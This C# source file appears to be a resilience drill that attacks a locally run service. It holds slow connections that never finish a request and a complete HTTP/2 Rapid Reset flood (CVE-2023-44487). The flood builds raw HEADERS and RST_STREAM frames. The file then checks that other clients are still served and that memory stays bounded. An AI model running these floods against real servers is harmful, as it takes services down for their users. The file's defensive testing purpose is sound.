using System.Buffers.Binary;
using System.Diagnostics;
using System.Globalization;
using System.Net.Sockets;
using Drills.Systems;

namespace Drills.Attacks;

/// <summary>Clients that begin and never go on, and clients that open calls only to reset them (CVE-2023-44487), while others are served.</summary>
internal static class HttpAttacks
{
    private const int ResetsPerConnection = 20_000;
    private const double MostGrowth = 200; // megabytes
    private const byte HeadersFrame = 1;
    private const byte ResetFrame = 3;
    private const byte SettingsFrame = 4;
    private const byte EndOfHeadersAndStream = 5;
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(10);

    // :method POST, :scheme http, :path / of HPACK's static table.
    private static readonly byte[] Headers = [0x83, 0x86, 0x84];

    public static async Task RunAsync(ServiceProcess service, DrillSettings settings, Findings found, CancellationToken cancellationToken)
    {
        var (slow, resetting) = (settings.Choose(50, 500), settings.Choose(2, 8));
        var before = service.Megabytes();
        List<TcpClient> clients = [];
        try
        {
            for (var i = 0; i < slow; i++)
                clients.Add(await BeginAsync(i % 2 == 0 ? service.Address.Port : service.PageAddress.Port, i % 2 == 0, cancellationToken));
            var waiting = await AnsweredAsync(service, $"{slow} clients that do not go on", found);
            found.Note($"seconds of an answer beside {slow} clients that do not go on", waiting);
            var sent = 0;
            var attack = Task.WhenAll(Enumerable.Range(0, resetting).Select(async _ => Interlocked.Add(ref sent, await ResetAsync(service.Address.Port, cancellationToken))));
            var resets = await AnsweredAsync(service, "calls that are reset", found);
            await attack;
            found.Note("calls opened and reset before the service ended the connections", sent);
            found.Note("seconds of an answer beside them", resets);
            await AnsweredAsync(service, "the attacks, afterwards,", found);
        }
        finally
        {
            clients.ForEach(client => client.Dispose());
        }
        found.Note("MB of the service attacked, before and after", string.Create(CultureInfo.InvariantCulture, $"{before:F0}, {service.Megabytes():F0}"));
        found.Require(service.Megabytes() < before + MostGrowth, $"the service attacked has grown from {before:F0} to {service.Megabytes():F0} MB");
    }

    private static async Task<double> AnsweredAsync(ServiceProcess service, string beside, Findings found)
    {
        var clock = Stopwatch.StartNew();
        found.Require(await service.ServesAsync() && clock.Elapsed < Patience, $"beside {beside} nobody else was answered within {Patience.TotalSeconds:0} s");
        return clock.Elapsed.TotalSeconds;
    }

    private static async Task<TcpClient> BeginAsync(int port, bool isHttp2, CancellationToken cancellationToken)
    {
        var client = new TcpClient();
        await client.ConnectAsync("127.0.0.1", port, cancellationToken);
        await client.GetStream().WriteAsync(isHttp2 ? "PRI * HTTP/2.0"u8.ToArray() : "GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: "u8.ToArray(), cancellationToken);
        return client;
    }

    // How many calls were sent until the service has had enough.
    private static async Task<int> ResetAsync(int port, CancellationToken cancellationToken)
    {
        var sent = 0;
        try
        {
            using var client = new TcpClient();
            await client.ConnectAsync("127.0.0.1", port, cancellationToken);
            var stream = client.GetStream();
            await stream.WriteAsync((byte[])[.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(SettingsFrame, 0, 0, [])], cancellationToken);
            for (; sent < ResetsPerConnection; sent++)
            {
                var call = (2 * sent) + 1;
                await stream.WriteAsync((byte[])[.. Frame(HeadersFrame, EndOfHeadersAndStream, call, Headers), .. Frame(ResetFrame, 0, call, [0, 0, 0, 8])], cancellationToken);
            }
        }
        catch (Exception error) when (error is IOException or SocketException)
        {
            // The service has ended the connection.
        }
        return sent;
    }

    // Length (3 bytes), kind, flags, stream (4 bytes), content.
    private static byte[] Frame(byte kind, byte flags, int stream, byte[] content)
    {
        var frame = new byte[9 + content.Length];
        (frame[2], frame[3], frame[4]) = ((byte)content.Length, kind, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        content.CopyTo(frame, 9);
        return frame;
    }
}
